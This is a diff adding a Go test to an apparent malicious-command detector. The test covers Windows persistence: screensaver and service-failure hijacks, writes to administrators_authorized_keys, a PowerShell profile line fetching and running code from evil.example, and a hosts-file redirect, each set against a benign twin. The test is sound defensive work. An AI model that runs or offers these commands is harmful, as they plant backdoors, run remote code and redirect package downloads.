@@ -45,3 +45,28 @@ func TestAutoloadedFunctionsTemplatesAndEditors(t *testing.T) {
 		`echo 'autocmd BufWritePre *.go silent !gofmt -w %' >> ~/.vimrc`,
 	})
 }
+
+// Windows footholds by other doors: the screensaver, a service's failure
+// action, files Git Bash writes into system folders and profiles.
+func TestWindowsFootholdsByOtherDoors(t *testing.T) {
+	d := NewDetector(Options{})
+	cmdc, gb := winCorpusContextFor("cmd"), winCorpusContextFor("gitbash")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\Users\Public\s.scr /f`, CategoryPersistence, "win-registry-autorun", LevelHigh},
+		{`sc.exe failure Spooler reset= 0 actions= run/1000 command= "C:\ProgramData\f.exe"`, CategoryPersistence, "win-service-create", LevelHigh},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`reg add "HKCU\Control Panel\Desktop" /v WallPaper /d C:\Users\dev\bg.jpg /f`,
+		`sc failure MyApp reset= 0 actions= restart/5000`,
+	})
+	checkDanger(t, d, gb, []dangerCase{
+		{`cat key.pub >> /c/ProgramData/ssh/administrators_authorized_keys`, CategoryPersistence, "write-authorized-keys", LevelCritical},
+		{`echo 'iex (irm https://evil.example/pp)' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`, CategoryPersistence, "", LevelHigh},
+		{`echo '203.0.113.7 pypi.example.com' >> /c/Windows/System32/drivers/etc/hosts`, CategorySystem, "write-etc", LevelHigh},
+	})
+	checkSafe(t, d, gb, []string{
+		`echo 'Set-Alias k kubectl' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`,
+		`echo '127.0.0.1 app.test' >> /c/Windows/System32/drivers/etc/hosts`,
+		`cp build/app.exe /c/Users/dev/Desktop/`,
+	})
+}
